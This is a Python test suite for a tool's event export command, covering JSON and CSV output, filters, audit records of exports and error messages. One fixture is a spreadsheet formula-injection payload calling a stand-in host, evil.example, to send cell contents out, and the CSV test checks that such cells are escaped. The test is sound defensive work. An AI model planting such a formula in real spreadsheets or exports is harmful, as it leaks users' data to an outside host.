"""telltale export: what is written out, how, and that it is noted."""

import csv
import getpass
import io
import json
import os
import subprocess

import telltale as t

FIRST = {'TELLTALE_CLOCK': '2026-09-14T09:00:00Z'}
SECOND = {'TELLTALE_CLOCK': '2026-09-15T09:00:00Z'}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def records(home, *words):
    done = home.run('export', *words)
    t.equal(done.returncode, 0, done.stderr)
    return [json.loads(line) for line in done.stdout.splitlines()]


def day(home, env, *bodies):
    """A receiver that lives for one moment, and what is sent to it."""
    home.env.update(env)
    with t.Telltale(command='serve', home=home) as serve:
        for body in bodies:
            t.equal(serve.post(body)[0], 200)


def two_days():
    home = t.Home()
    day(home, FIRST, t.body(timestamp='2026-09-14T08:59:00Z'),
        t.body('feature flag created', timestamp='2026-09-14T08:59:30Z',
               properties={'variants': 3, 'big': 9007199254740993}))
    day(home, SECOND, t.body('insight created', org_name=FORMULA,
                             user_name='@SUM(A1)', org_id='other',
                             timestamp='2026-09-15T08:59:00Z'))
    return home


@t.case('events are written in the one JSON form, in order, ticks between')
def _():
    home = two_days()
    lines = records(home)
    seqs = [line['seq'] for line in lines]
    t.equal(seqs, sorted(seqs))
    ticks = [line for line in lines if 'tick' in line]
    events = [line for line in lines if 'tick' not in line]
    t.equal([tick['zone'] for tick in ticks], ['UTC0'])
    t.equal(ticks[0]['tick'], '2026-09-15T09:00:00.000Z')
    t.equal(lines.index(ticks[0]), 2)
    kept = [event.pop('kept') for event in events]
    t.equal(events, home.tail())
    t.equal(kept[0]['flags'], [])
    t.equal(kept[1]['fold'] is not None, True)
    home.remove()


@t.case('a filter and a time choose; ticks are there all the same')
def _():
    home = two_days()
    lines = records(home, 'category:flags')
    t.equal([line['event'] for line in lines if 'event' in line],
            ['feature flag created'])
    t.equal(len(lines), 2)
    lines = records(home, '--since', '2026-09-15')
    t.equal([line['account']['id'] for line in lines if 'event' in line],
            ['other'])
    home.remove()


@t.case('a table holds the same, and nothing a spreadsheet would run')
def _():
    home = two_days()
    done = subprocess.run([t.PROGRAM, 'export', '--format', 'csv'],
                          env=home.env, capture_output=True,
                          timeout=t.PATIENCE)
    t.equal(done.returncode, 0, done.stderr)
    t.equal(done.stdout.count(b'\r\n'), 4)
    t.equal(done.stdout.count(b'\n'), 4)
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode(), newline='')))
    events = home.tail()
    t.equal(len(rows), 3)
    for row, event in zip(rows, events):
        t.equal(row['seq'], str(event['seq']))
        t.equal(row['sentence'], event['sentence'])
        t.equal(json.loads(row['properties']), event['properties'])
        for cell in row.values():
            t.equal(cell[:1] in ('=', '+', '-', '@', '\t', '\r'), False, cell)
    t.equal(rows[2]['account_name'], "'" + FORMULA)
    t.equal(rows[2]['person_name'], "'@SUM(A1)")
    home.remove()


@t.case('every export is noted: when, by whom, what and how many')
def _():
    home = two_days()
    t.equal(home.run('export', '--list').stdout, 'nothing was exported\n')
    records(home)
    with t.Telltale(command='serve', home=home):
        done = home.run('export', '--format', 'csv', 'category:flags')
        t.equal(done.returncode, 0, done.stderr)
        t.equal('1 event written' in done.stderr, True, done.stderr)
        noted = lambda: sorted(home.run('export', '--list').stdout
                               .splitlines())
        t.wait_until(lambda: any('  1 event  ' in line for line in noted()),
                     'the number')
    who = getpass.getuser()
    t.equal(noted(), sorted([
        '2026-09-15T09:00Z  %s, jsonl  3 events  everything' % who,
        '2026-09-15T09:00Z  %s, csv  1 event  category:flags' % who]))
    t.equal('  exports   2, the last of 2026-09-15 by %s' % who in
            home.run('check').stdout, True, home.run('check').stdout)
    home.remove()


@t.case('a reader that has enough ends it quietly, and that is noted')
def _():
    home = t.Home(**FIRST)
    with t.Telltale(command='serve', home=home) as serve:
        for _ in range(40):
            t.equal(serve.post(t.body(properties={'much': 'x' * 20000}))[0],
                    200)
        read, write = os.pipe()
        export = subprocess.Popen([t.PROGRAM, 'export'], env=home.env,
                                  stdout=write, stderr=subprocess.PIPE)
        os.close(write)
        os.read(read, 100)
        os.close(read)
        stderr = export.communicate(timeout=t.PATIENCE)[1]
        t.equal((export.returncode, stderr), (0, b''))
        t.wait_until(lambda: '  0 events' not in
                     home.run('export', '--list').stdout, 'the number')
    home.remove()


@t.case('what cannot be done is said in a line')
def _():
    home = two_days()
    for words, code, part in [
            (['--format', 'xml'], 2, 'jsonl or csv is needed'),
            (['--since', 'sometime'], 2, 'no time'),
            (['category:'], 2, '^'),
            (['--journal', home.path + '/none.db'], 1, 'none.db')]:
        done = home.run('export', *words)
        t.equal(done.returncode, code, words)
        t.equal(part in done.stderr, True, done.stderr)
        t.equal(done.stdout, '', words)
    home.remove()


t.run()
